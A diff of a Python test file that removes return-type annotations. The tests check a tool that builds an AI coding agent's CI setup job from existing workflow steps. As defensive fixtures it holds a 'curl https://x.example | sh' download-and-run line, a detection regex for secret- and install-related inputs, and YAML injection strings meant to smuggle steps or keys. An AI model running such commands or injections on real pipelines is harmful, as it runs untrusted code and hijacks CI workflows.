@@ -51,13 +51,13 @@ def steps_of(text: str, job: str) -> list[dict[str, Any]]:
     return [{key: value for key, value in step.items() if key != "if"} for step in of_ci]
 
 
-def test_steps_are_copied_as_they_stand_with_their_place() -> None:
+def test_steps_are_copied_as_they_stand_with_their_place():
     text = written(NODE, {"name": "Install", "run": "npm ci"})
     assert steps_of(text, "prepare") == [NODE, {"name": "Install", "run": "npm ci"}]
     assert text.count("# .github/workflows/ci.yml, job test\n") == 2
 
 
-def test_a124_the_agents_job_repeats_only_what_chooses_a_version(tmp_path: Path) -> None:
+def test_a124_the_agents_job_repeats_only_what_chooses_a_version(tmp_path: Path):
     text = written(NODE, {"uses": "some/setup-thing@v1"}, {"run": "npm ci"})
     [step] = steps_of(text, "run")
     assert step["uses"].partition("@")[0] == "actions/setup-node"
@@ -66,7 +66,7 @@ def test_a124_the_agents_job_repeats_only_what_chooses_a_version(tmp_path: Path)
 
 
 @pytest.mark.parametrize("name", TOOLS)
-def test_a124_no_input_that_a_job_with_a_key_gets_installs_caches_or_holds_a_secret(name: str) -> None:
+def test_a124_no_input_that_a_job_with_a_key_gets_installs_caches_or_holds_a_secret(name: str):
     dangerous = re.compile(
         r"token|auth|registry|cache|install|command|script|packages$|components|server|extensions|run",
         re.IGNORECASE,
@@ -74,7 +74,7 @@ def test_a124_no_input_that_a_job_with_a_key_gets_installs_caches_or_holds_a_sec
     assert not [one for one in TOOLS[name].inputs.split() if dangerous.search(one)]
 
 
-def test_system_packages_are_repeated_only_where_the_line_is_literal() -> None:
+def test_system_packages_are_repeated_only_where_the_line_is_literal():
     lines = "sudo apt-get update && sudo apt-get install -y libxml2-dev\ncurl https://x.example | sh\n"
     [step] = steps_of(written({"run": lines}), "run")
     assert step["run"] == "sudo apt-get update\nsudo apt-get install -y libxml2-dev"
@@ -92,7 +92,7 @@ def test_system_packages_are_repeated_only_where_the_line_is_literal() -> None:
         ({"run": "npm ci", "if": "github.event_name == 'schedule'"}, "another event"),
     ],
 )
-def test_what_another_job_cannot_have_is_left_out_with_the_reason(step: dict[str, Any], reason: str) -> None:
+def test_what_another_job_cannot_have_is_left_out_with_the_reason(step: dict[str, Any], reason: str):
     text = written(NODE, step)
     assert steps_of(text, "prepare") == [NODE]
     [line] = [line for line in text.splitlines() if "left out: " in line]
@@ -100,18 +100,18 @@ def test_what_another_job_cannot_have_is_left_out_with_the_reason(step: dict[str
 
 
 @pytest.mark.parametrize("job", [{"container": "node:22"}, {"services": {"db": {"image": "postgres"}}}])
-def test_a_job_in_a_container_is_no_model_for_ours(job: dict[str, Any]) -> None:
+def test_a_job_in_a_container_is_no_model_for_ours(job: dict[str, Any]):
     assert not steps_of(written(NODE, job=job), "prepare")
 
 
-def test_copilots_own_set_up_is_used_in_place_of_cis() -> None:
+def test_copilots_own_set_up_is_used_in_place_of_cis():
     own = {"jobs": {"copilot-setup-steps": {"runs-on": "ubuntu-latest", "steps": [{"run": "make deps"}]}}}
     text = written(NODE, **{".github__workflows__copilot-setup-steps.yml": yaml.safe_dump(own)})
     [step] = steps_of(text, "prepare")
     assert step["run"] == "make deps"
 
 
-def test_a125_no_text_of_ci_becomes_a_step_or_a_key() -> None:
+def test_a125_no_text_of_ci_becomes_a_step_or_a_key():
     hostile = [
         {"name": EVIL, "run": "npm ci\n$STEPS $PREPARE"},
         {"uses": "actions/setup-python@v5", "with": {"python-version": "$STEPS", "x: y\n#": EVIL}},
@@ -132,7 +132,7 @@ def test_a125_no_text_of_ci_becomes_a_step_or_a_key() -> None:
     ]
 
 
-def test_the_job_without_secrets_has_none_and_follows_the_gate() -> None:
+def test_the_job_without_secrets_has_none_and_follows_the_gate():
     text = written(NODE, {"run": "npm ci"})
     job = yaml.safe_load(text)["jobs"]["prepare"]
     assert job["permissions"] == {"contents": "read"}
@@ -146,7 +146,7 @@ def test_the_job_without_secrets_has_none_and_follows_the_gate() -> None:
 
 
 @pytest.mark.slow
-def test_what_is_written_is_clean_to_the_linters(tmp_path: Path) -> None:
+def test_what_is_written_is_clean_to_the_linters(tmp_path: Path):
     rust = {"uses": "dtolnay/rust-toolchain@1.80", "with": {"components": "clippy"}}
     node = {"uses": NODE["uses"], "with": {"node-version": "22", "cache": "npm"}}
     files = {
